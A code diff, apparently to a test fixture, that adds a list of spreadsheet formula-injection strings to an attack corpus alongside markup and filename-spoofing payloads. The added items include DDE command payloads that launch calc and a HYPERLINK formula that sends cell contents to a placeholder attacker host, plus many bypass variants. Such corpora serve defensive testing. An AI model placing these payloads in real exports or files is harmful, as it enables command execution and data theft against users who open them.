@@ -91,6 +91,31 @@ _MARKUP = [
     "data:text/html,<script>",
 ]
 
+_FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/?"&A1,"Logga in")',
+    "+46 8 123",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    '"=1+1"',
+    "'=1+1",
+    '";=1+1',
+    ";=1+1",
+    ",=1+1",
+    "|=1+1",
+    "a,\n=1+1",
+    "a;b;+1",
+    "\uff1d1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\u00a0=1+1",
+    "%0A=1+1",
+]
+
 _ACTING = [
     "\u202egnp.exe",
     "\u202e",
@@ -167,7 +192,7 @@ _IMITATIONS = [
     ">From there",
 ]
 
-_SIMPLE = [*_HEADERS, *_MARKUP, *_ACTING, *_IMITATIONS]
+_SIMPLE = [*_HEADERS, *_MARKUP, *_FORMULAS, *_ACTING, *_IMITATIONS]
 
 ATTACKS = [
     *_SIMPLE,
